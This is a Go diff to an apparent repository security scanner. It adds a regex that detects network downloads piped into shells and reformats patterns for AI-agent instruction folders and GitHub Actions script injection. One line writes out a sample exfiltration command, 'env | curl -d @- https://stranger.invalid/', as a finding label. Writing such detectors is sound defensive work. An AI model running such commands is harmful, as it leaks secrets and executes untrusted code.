@@ -19,7 +19,8 @@ func follows(name string) bool {
 }
 
 // followed matches the folders with such files.
-var followed = regexp.MustCompile(`(?:^|/)\.(?:claude/(?:commands|agents|skills|rules)|cursor/(?:rules|commands)|windsurf/rules|clinerules|` +
+var followed = regexp.MustCompile(`(?:^|/)\.(?:claude/(?:commands|agents|skills|rules)|cursor/(?:rules|commands)|` +
+	`windsurf/rules|clinerules|` +
 	`roo/rules|kiro/steering|amazonq/rules|continue/rules|opencode/(?:command|agent)|codex/prompts|gemini/commands|` +
 	`github/(?:instructions|prompts|agents|chatmodes)|junie|augment/rules|agents/skills)/`)
 
@@ -33,9 +34,13 @@ var (
 		`extensions\.(?:verifySignature|supportUntrustedWorkspaces)`)
 	// Texts that anybody can write, in a line of a shell. In a variable they do no harm.
 	strangersText = regexp.MustCompile(`(?m)^\s*(?:-\s*)?(?:run:\s*)?[^\s:#][^:\n]*\$\{\{\s*(?:github\.event\.(?:issue|pull_request|comment|` +
-		`discussion|review|review_comment|head_commit|commits|pages)\S*\.(?:body|title|message|name|email|ref|label|page_name)|github\.head_ref)|` +
+		`discussion|review|review_comment|head_commit|commits|pages)\S*\.(?:body|title|message|name|email|ref|label|page_name)|` +
+		`github\.head_ref)|` +
 		`^\s*(?:-\s*)?run:[^\n]*\$\{\{\s*(?:github\.event\.(?:issue|pull_request|comment|discussion|review|review_comment|head_commit|commits|` +
 		`pages)\S*\.(?:body|title|message|name|email|ref|label|page_name)|github\.head_ref)`)
+	// Code from the network that a shell runs, whatever is around it.
+	piped = regexp.MustCompile(`(?i)\b(?:curl|wget|iwr|irm)\b[^\n|"'<>` + "`" + `\\]*\w\.\w[^\n|"'<>` + "`" + `\\]*\|\s*(?:sudo )?\w*` +
+		`(?:sh|iex|python3?|node)\b`)
 	strangersRun = regexp.MustCompile(`\bpull_request_target\b`)
 	allSecrets   = regexp.MustCompile(`(?i)toJSON\(\s*secrets\s*\)`)
 	hookFiles    = regexp.MustCompile(`(?i)(?:^|/)(?:\.husky/[^/.][^/]*|\.git/hooks/[^/]+|\.githooks/[^/]+|lefthook\.yml)$`)
@@ -59,6 +64,9 @@ func meansByText(p part) (out []string) {
 		out = append(out, takesFork+"fork.invalid/x")
 	case editorFiles.MatchString(p.name) && asksNoMore.MatchString(p.text), hookFiles.MatchString(p.name) && doesNothing.MatchString(p.text):
 		out = append(out, skipsCheck)
+	}
+	if !isProse(p.name) || follows(p.name) {
+		out = append(out, piped.FindAllString(p.text, maxEdits)...)
 	}
 	if isFlow && allSecrets.MatchString(p.text) {
 		out = append(out, "env | curl -d @- https://stranger.invalid/")
